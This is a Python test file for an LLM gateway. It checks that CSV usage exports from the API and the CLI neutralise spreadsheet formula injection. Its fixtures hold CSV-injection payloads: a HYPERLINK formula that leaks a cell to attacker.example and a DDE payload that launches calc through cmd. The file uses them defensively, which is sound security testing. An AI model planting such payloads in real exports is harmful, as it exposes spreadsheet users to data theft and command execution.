"""CSV exports of usage hold client-chosen strings (feature, user, model): a cell a spreadsheet would run as
a formula is written as text, as OWASP advises for CSV injection, by GET /v1/usage?format=csv and by
`llm-gateway usage --format csv` alike."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import uuid
from collections.abc import Callable, Iterator

import httpx
import pytest

from app.config import Settings
from tests.conftest import sdk_client
from tests.db import create_database, drop_database, wait_for_rows
from tests.fakes.openai_upstream import FakeOpenAI
from tests.harness import MASTER_KEY, ThreadedGateway

# (feature, user, model): each hostile value starts with a character OWASP lists (=, +, -, @; a tab or a
# CR cannot reach a row any more, since every client string in one must be printable, but rows written
# before that rule are exported by the same code).
CALLS = [
    ('=HYPERLINK("http://attacker.example/?"&A1,"click")', "alice", "gpt-4o-mini"),
    ("plain-feature", "+cmd|' /C calc'!A0", "gpt-4o-mini"),
    ("minus", "-2+3", "@SUM(1+1)"),
    ("model-formula", "bob", "=1+1"),
]
HOSTILE = {
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "=1+1",
}
COLUMNS = ["feature", "user", "model"]


@pytest.fixture(scope="module")
def database(fake_server: FakeOpenAI, make_settings: Callable[..., Settings]) -> Iterator[str]:
    name, url = create_database("gateway_csv")
    gateway = ThreadedGateway(make_settings(database_url=url)).start()
    fake_server.reset()
    ids = []
    try:
        with sdk_client(gateway.base_url) as sdk:
            for feature, user, model in CALLS:
                request_id = f"csv-{uuid.uuid4().hex}"
                ids.append(request_id)
                sdk.chat.completions.create(
                    model=model,
                    messages=[{"role": "user", "content": "x"}],
                    extra_headers={"X-Request-Id": request_id, "X-Feature": feature, "X-User-Id": user},
                )
        wait_for_rows(url, *ids)
        yield url
    finally:
        gateway.stop()
        drop_database(name)


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _assert_neutralised(rows: list[dict[str, str]]) -> None:
    assert len(rows) == len(CALLS)
    cells = {row[column] for row in rows for column in COLUMNS}
    # Every hostile value is there, as text: behind a quote a spreadsheet shows it and does not run it.
    assert {"'" + value for value in HOSTILE} <= cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # Ordinary values are left as they are.
    assert {"plain-feature", "alice", "gpt-4o-mini"} <= cells
    for row in rows:
        assert int(row["requests"]) == 1 and not row["cost_usd"].startswith("'")


def test_usage_endpoint_csv_neutralises_formulas(
    database: str, start_gateway: Callable[..., ThreadedGateway]
) -> None:
    gateway = start_gateway(database_url=database)
    response = httpx.get(
        gateway.url + "/v1/usage",
        params={"format": "csv", "group_by": ",".join(COLUMNS)},
        headers={"authorization": f"Bearer {MASTER_KEY}"},
    )
    assert response.status_code == 200, response.text
    _assert_neutralised(_cells(response.text))


def test_cli_usage_csv_neutralises_formulas(database: str) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("GATEWAY_")}
    result = subprocess.run(
        [sys.executable, "-m", "app.cli", "usage", "--by", "feature,user,model", "--format", "csv"],
        env={**env, "DATABASE_URL": database},
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    _assert_neutralised(_cells(result.stdout))
